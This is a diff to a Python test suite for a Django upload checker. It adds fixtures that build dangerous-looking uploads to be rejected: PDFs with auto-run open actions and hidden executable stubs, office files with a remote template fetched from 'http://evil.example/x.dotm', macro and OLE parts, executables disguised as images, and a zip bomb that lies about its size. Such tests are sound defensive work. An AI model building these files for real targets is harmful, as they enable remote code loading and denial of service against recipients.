@@ -9,11 +9,11 @@ from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.utils import timezone
 from PIL import Image
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject
 
 from accounts.models import Document
 from portal import uploads
-from tests.files import XLSX, a_pdf, a_picture, an_office_file
+from tests.files import DOCX, XLSX, a_pdf, a_picture, an_office_file
 
 
 def why(upload):
@@ -21,22 +21,6 @@ def why(upload):
     with pytest.raises(ValidationError) as refusal:
         uploads.check(upload)
     return refusal.value.code
-
-
-@pytest.mark.parametrize(
-    ("upload", "kind"),
-    [
-        (a_pdf(), "application/pdf"),
-        (a_pdf("사업자등록증.PDF"), "application/pdf"),
-        (a_picture(), "image/png"),
-        (a_picture("seal.jpg", "JPEG"), "image/jpeg"),
-        (an_office_file(), uploads.TYPES["docx"]),
-        (an_office_file("list.xlsx", XLSX), uploads.TYPES["xlsx"]),
-    ],
-    ids=lambda one: getattr(one, "name", one),
-)
-def test_sound_files_are_taken(upload, kind):
-    assert uploads.check(upload) == kind
 
 
 def raw(name, content):
@@ -55,6 +39,45 @@ def with_launch(writer):
 
 def with_file(writer):
     writer.add_attachment("virus.exe", b"MZ")
+
+
+def doing(kind):
+    """A PDF that does something when it is opened."""
+
+    def change(writer):
+        action = DictionaryObject({NameObject("/S"): NameObject(kind), NameObject("/F"): TextStringObject("http://x/")})
+        writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
+
+    return a_pdf(f"{kind[1:]}.pdf", change)
+
+
+def with_attached_file(writer):
+    """A file on a page, which no catalogue of embedded files names."""
+    stream = StreamObject()
+    stream.set_data(b"MZ")
+    files = DictionaryObject({NameObject("/F"): writer._add_object(stream)})
+    pin = DictionaryObject({NameObject("/FS"): DictionaryObject({NameObject("/EF"): files})})
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(pin)])
+
+
+def related(name, kind, target="http://evil.example/x.dotm"):
+    """A DOCX with a relationship that leads outside."""
+    outside = f'<Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>'
+    parts = [("word/_rels/settings.xml.rels", f"<Relationships>{outside}</Relationships>")]
+    return an_office_file(name, parts=parts)
+
+
+def typed(name, kind, main=DOCX):
+    """An office file with a part of an odd name that its type gives away."""
+    return an_office_file(name, main, f'<Override PartName="/odd.dat" ContentType="application/{kind}"/>')
+
+
+def a_lying_bomb():
+    """A part of 40 MB that the directory calls small."""
+    content = bytearray(an_office_file(parts=[("word/b.xml", b"0" * 40_000_000)]).read())
+    entry = content.rfind(b"PK\x01\x02")
+    content[entry + 24 : entry + 28] = (100).to_bytes(4, "little")
+    return raw("lying.docx", bytes(content))
 
 
 def a_bomb():
@@ -99,6 +122,23 @@ MACRO = '<Override PartName="/vbaProject.bin" ContentType="application/vnd.ms-of
 
 
 @pytest.mark.parametrize(
+    ("upload", "kind"),
+    [
+        (a_pdf(), "application/pdf"),
+        (a_pdf("사업자등록증.PDF"), "application/pdf"),
+        (a_picture(), "image/png"),
+        (a_picture("seal.jpg", "JPEG"), "image/jpeg"),
+        (an_office_file(), uploads.TYPES["docx"]),
+        (an_office_file("list.xlsx", XLSX), uploads.TYPES["xlsx"]),
+        (related("link.docx", "hyperlink", "https://acme.example/"), uploads.TYPES["docx"]),
+    ],
+    ids=lambda one: getattr(one, "name", one),
+)
+def test_sound_files_are_taken(upload, kind):
+    assert uploads.check(upload) == kind
+
+
+@pytest.mark.parametrize(
     ("upload", "code"),
     [
         (raw("empty.pdf", b""), "empty"),
@@ -118,12 +158,21 @@ MACRO = '<Override PartName="/vbaProject.bin" ContentType="application/vnd.ms-of
         (a_pdf(change=with_script), "script"),
         (a_pdf(change=with_launch), "script"),
         (a_pdf(change=with_file), "script"),
+        (a_pdf(change=with_attached_file), "script"),
+        *[(doing(kind), "script") for kind in ("/SubmitForm", "/ImportData", "/GoToE", "/GoToR")],
         (a_pdf(change=lambda writer: writer.encrypt("secret")), "password"),
         (an_office_file("macro.docx", more=MACRO), "macro"),
         (an_office_file("macro.xlsx", XLSX, parts=[("xl/vbaProject.bin", "x")]), "macro"),
         (an_office_file("object.docx", parts=[("word/embeddings/oleObject1.bin", "x")]), "macro"),
         (an_office_file("control.docx", parts=[("word/activeX/activeX1.xml", "x")]), "macro"),
         (an_office_file("list.docm", XLSX.replace("main+xml", "macroEnabled.main+xml")), "macro"),
+        (related("template.docx", "attachedTemplate"), "macro"),
+        (typed("links.xlsx", "vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml", XLSX), "macro"),
+        (typed("sheet.xlsx", "vnd.ms-excel.macrosheet+xml", XLSX), "macro"),
+        (typed("ole.docx", "vnd.openxmlformats-officedocument.oleObject"), "macro"),
+        (an_office_file("program.docx", parts=[("word/media/image1.png", b"MZ\x90")]), "macro"),
+        (an_office_file("other.docx", parts=[("word/media/image1.png", OLE)]), "macro"),
+        (a_lying_bomb(), "broken"),
         (a_bomb(), "bomb"),
         (a_wide_picture(), "bomb"),
         (with_entities(), "type"),
